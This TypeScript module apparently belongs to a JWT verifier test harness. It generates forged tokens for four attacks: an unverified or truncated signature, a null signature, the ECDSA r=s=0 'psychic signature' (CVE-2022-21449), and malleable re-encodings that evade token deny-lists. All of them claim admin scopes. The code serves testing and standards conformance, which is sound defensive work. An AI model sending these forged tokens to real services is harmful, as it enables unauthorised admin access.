import { base64url } from 'jose';
import { defineAttack, type StrictOutcome } from '../attack';
import { compactToken, encodeSegment, splitCompact } from '../compact-token';
import { ecdsaSignatureDer } from '../der';
import { flipUnusedTailBits, padSegment } from '../base64url-variants';
import { isMalleableEcdsa, malleateEcdsaSegment } from '../ecdsa-malleability';
import { mintValidToken, validParts } from '../valid-token';

/** The privilege every forged token asks for. */
export const FORGED_CLAIMS = {
  sub: 'admin',
  scope: 'admin orders:read orders:write billing:read',
} as const;

const ECDSA_SIZE = { ES256: 64, ES384: 96, ES512: 132 } as const;

export const unverifiedSignature = defineAttack(
  {
    id: 'A1',
    name: 'Unverified signature',
    note: 'The payload is edited (sub → admin) and the original signature kept, which only a decode-only server accepts.',
    clauses: ['RFC 7515 §5.2', 'RFC 7519 §7.2', 'OWASP ASVS 5.0 9.1.1'],
    checklist: [4],
  },
  async ({ target }) => {
    const original = await mintValidToken(target);
    const [header, payload, signature] = splitCompact(original);
    const claims = JSON.parse(new TextDecoder().decode(base64url.decode(payload))) as Record<string, unknown>;
    const tampered = `${header}.${encodeSegment({ ...claims, ...FORGED_CLAIMS })}.${signature}`;
    return [
      {
        variant: 'tampered-payload',
        token: tampered,
        note: 'Payload rewritten to sub=admin; the signature is the one the issuer made for the old payload.',
        strict: 'ERR_JWS_SIGNATURE_VERIFICATION_FAILED',
        original,
      },
      {
        variant: 'truncated-signature',
        token: `${header}.${payload}.${signature.slice(0, -4)}`,
        note: 'A genuine token with the last 4 signature characters dropped (jwt_tool "broken signature").',
        strict: 'ERR_JWS_SIGNATURE_VERIFICATION_FAILED',
        original,
      },
    ];
  },
);

export const nullSignature = defineAttack(
  {
    id: 'A3',
    name: 'Null signature',
    note: 'A real alg in the header and an empty signature segment (CVE-2020-28042).',
    clauses: ['RFC 7515 §5.2', 'RFC 8725 §3.1'],
    checklist: [4],
  },
  async ({ target }) => {
    const { header, claims } = validParts(target, { claims: FORGED_CLAIMS });
    return [
      {
        variant: 'stripped',
        token: await compactToken(header, claims, { kind: 'text', text: '' }),
        note: `alg ${target.key.alg}, kid of the issuer, forged claims and no signature at all.`,
        strict: 'ERR_JWS_SIGNATURE_VERIFICATION_FAILED',
      },
    ];
  },
);

export const psychicSignature = defineAttack(
  {
    id: 'A10',
    name: 'ECDSA psychic signature',
    note: 'An ECDSA signature with r = s = 0, which broken verifiers (CVE-2022-21449) accept for any message.',
    clauses: ['RFC 7518 §3.4', 'RFC 7515 §5.2'],
    checklist: [4],
  },
  async ({ target }) => {
    const alg = isMalleableEcdsa(target.key.alg) ? target.key.alg : 'ES256';
    const strict =
      alg === target.key.alg ? 'ERR_JWS_SIGNATURE_VERIFICATION_FAILED' : 'ERR_JOSE_ALG_NOT_ALLOWED';
    const { header, claims } = validParts(target, {
      header: { alg },
      claims: FORGED_CLAIMS,
    });
    return [
      {
        variant: 'zero-r-s',
        token: await compactToken(header, claims, {
          kind: 'bytes',
          bytes: new Uint8Array(ECDSA_SIZE[alg]),
        }),
        note: `alg ${alg} with a signature of ${ECDSA_SIZE[alg]} zero bytes (r = 0, s = 0).`,
        strict,
      },
      {
        variant: 'der-zero',
        // DER SEQUENCE { INTEGER 0, INTEGER 0 }: the ASN.1 form a Java-style verifier parses.
        token: await compactToken(header, claims, {
          kind: 'text',
          text: 'MAYCAQACAQA',
        }),
        note: `alg ${alg} with the DER encoding of r = s = 0 instead of the fixed-length R‖S form.`,
        strict,
      },
    ];
  },
);

export const malleableEncodings = defineAttack(
  {
    id: 'A11',
    name: 'Malleable token encodings',
    note: 'A genuine token re-encoded into a different string with the same claims, which bypasses deny-lists keyed on token bytes.',
    clauses: ['OWASP JWT Cheat Sheet "Token revocation" (denylist on jti)', 'RFC 7519 §4.1.7'],
    checklist: [26],
  },
  async ({ target }) => {
    const original = await mintValidToken(target);
    const [header, payload, signature] = splitCompact(original);
    const variants: Array<{
      variant: string;
      segment: string | undefined;
      note: string;
      strict?: StrictOutcome;
    }> = [
      {
        variant: 'ecdsa-high-s',
        segment: isMalleableEcdsa(target.key.alg)
          ? malleateEcdsaSegment(target.key.alg, signature)
          : undefined,
        note: 'The ECDSA signature (r, s) replaced by (r, n − s): a second valid signature.',
      },
      {
        variant: 'der-signature',
        segment: isMalleableEcdsa(target.key.alg)
          ? base64url.encode(ecdsaSignatureDer(base64url.decode(signature)))
          : undefined,
        note: 'The same ECDSA signature in DER form, which RFC 7518 §3.4 does not allow (jose rejects it).',
        strict: 'ERR_JWS_SIGNATURE_VERIFICATION_FAILED',
      },
      {
        variant: 'base64-tail-bits',
        segment: flipUnusedTailBits(signature),
        note: 'The unused low bits of the last signature character changed: same bytes, different string.',
      },
      {
        variant: 'padded',
        segment: padSegment(signature),
        note: 'Base64 "=" padding appended to the signature segment.',
      },
    ];
    return variants.flatMap(({ variant, segment, note, strict = 'accepted' }) =>
      segment ? [{ variant, note, token: `${header}.${payload}.${segment}`, strict, original }] : [],
    );
  },
);
